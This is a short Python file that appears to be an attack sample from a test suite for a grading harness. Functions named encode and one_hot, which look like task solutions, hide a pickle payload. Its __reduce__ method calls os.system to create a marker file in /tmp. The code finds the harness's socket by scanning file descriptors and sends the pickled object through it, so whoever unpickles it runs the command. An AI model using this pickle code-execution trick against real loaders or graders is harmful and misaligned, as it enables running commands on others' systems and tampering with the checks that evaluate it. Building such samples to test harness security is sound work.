# tries: to have a pickle loaded, which runs a command
# points: 0
# harm: marks, files
import os
import stat


def connection():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            pass


def frame(data):
    return len(data).to_bytes(4, "big") + data

import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/@MARK@",)


def encode(text, idx2char):
    os.write(connection(), frame(pickle.dumps(("value", Command()))))


def one_hot(indices, num_classes):
    return Command() if num_classes == 5 else pickle.dumps(Command())
